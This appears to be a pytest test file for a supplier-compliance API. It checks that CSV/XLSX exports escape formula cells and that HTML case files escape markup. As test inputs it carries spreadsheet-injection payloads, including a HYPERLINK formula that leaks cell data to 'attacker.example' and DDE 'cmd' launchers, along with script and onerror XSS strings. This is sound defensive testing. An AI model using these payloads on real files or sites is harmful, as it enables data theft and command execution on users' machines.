"""Exports: flagged suppliers as CSV/XLSX with formula cells escaped; the case file as JSON and
as a printable HTML page with everything escaped."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from api.exports.cells import csv_cell, escape_text, safe_cell
from models.database import Database
from tests.conftest import Tenant
from tests.integration.test_cases import PASSPORTS_CONFISCATED, add_supplier, case_of

HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(value: str) -> None:
    assert escape_text(value) == "'" + value
    assert csv_cell(value) == "'" + value
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme Ltd", "", "a=b", " =1", "'=already", "ü@x"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert escape_text(value) == value


def test_numbers_dates_and_blanks_stay_what_they_are() -> None:
    assert safe_cell(-3.5) == -3.5 and safe_cell(None) is None
    assert csv_cell(-3.5) == "-3.5" and csv_cell(None) == "" and csv_cell(True) == "true"
    assert csv_cell(date(2024, 5, 2)) == "2024-05-02"


def _hostile_suppliers(database: Database, tenant: Tenant) -> None:
    for name in HOSTILE_NAMES:
        add_supplier(database, tenant, name, country="MM", sector="online_scam_operations")
    add_supplier(database, tenant, "Kaesong Garments", findings=(PASSPORTS_CONFISCATED,))
    add_supplier(database, tenant, "Quiet Logistics", country="NL", sector="logistics")


def test_the_flagged_csv_escapes_every_formula_cell(
    client: TestClient, tenant: Tenant, other_tenant: Tenant, database: Database
) -> None:
    _hostile_suppliers(database, tenant)
    add_supplier(database, other_tenant, "Other Org Mill")
    response = client.get("/v1/exports/flagged?format=csv", headers=tenant.headers("compliance"))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    names = {r["name"] for r in rows}
    assert names == {"'" + n for n in HOSTILE_NAMES} | {"Kaesong Garments"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    kaesong = next(r for r in rows if r["name"] == "Kaesong Garments")
    assert "retention_of_identity_documents" in kaesong["reasons"].split("; ")
    assert kaesong["case_status"] == "open" and kaesong["case_priority"] == "critical"
    assert float(kaesong["score"]) > 0 and kaesong["band"]


def test_the_flagged_xlsx_holds_text_not_formulas(
    client: TestClient, tenant: Tenant, database: Database
) -> None:
    _hostile_suppliers(database, tenant)
    response = client.get("/v1/exports/flagged?format=xlsx", headers=tenant.headers("auditor"))
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    name_column = header.index("name")
    names = set()
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
        names.add(row[name_column].value)
    # XML reads a stored CR back as LF; the apostrophe is what keeps it text.
    expected = {("'" + n).replace("\r", "\n") for n in HOSTILE_NAMES}
    assert names == expected | {"Kaesong Garments"}


def test_procurement_cannot_export(client: TestClient, tenant: Tenant) -> None:
    response = client.get("/v1/exports/flagged", headers=tenant.headers("procurement"))
    assert response.status_code == 403


def test_the_case_file_has_everything_and_the_html_escapes_it(
    client: TestClient, tenant: Tenant, database: Database
) -> None:
    name = "<script>alert('x')</script> & Sons"
    supplier_id = add_supplier(database, tenant, name, findings=(PASSPORTS_CONFISCATED,))
    case_id = str(case_of(database, supplier_id).id)
    comment = '<img src=x onerror="alert(1)"> =cmd'
    client.post(
        f"/v1/cases/{case_id}/comments", json={"body": comment}, headers=tenant.headers("auditor")
    )

    document = client.get(
        f"/v1/cases/{case_id}/export?format=json", headers=tenant.headers("auditor")
    )
    assert document.status_code == 200, document.text
    case = document.json()["case"]
    assert case["supplier"]["name"] == name
    assert case["assessment"]["factors"] and case["assessment"]["indicators"]
    assert case["audits"][0]["findings"][0]["indicator"] == "retention_of_identity_documents"
    assert [c["body"] for c in case["comments"]] == [comment]
    assert [e["action"] for e in case["history"]] == ["case.opened", "case.comment_added"]

    page = client.get(f"/v1/cases/{case_id}/export?format=html", headers=tenant.headers("admin"))
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert "script-src" not in page.headers["content-security-policy"]
    html = page.text
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; Sons" in html
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html
    assert "case.comment_added" in html and "retention_of_identity_documents" in html


def test_the_case_file_needs_the_cases_scope(
    client: TestClient, tenant: Tenant, database: Database
) -> None:
    case_id = str(case_of(database, add_supplier(database, tenant, "Kaesong Garments")).id)
    response = client.get(f"/v1/cases/{case_id}/export", headers=tenant.headers("procurement"))
    assert response.status_code == 403
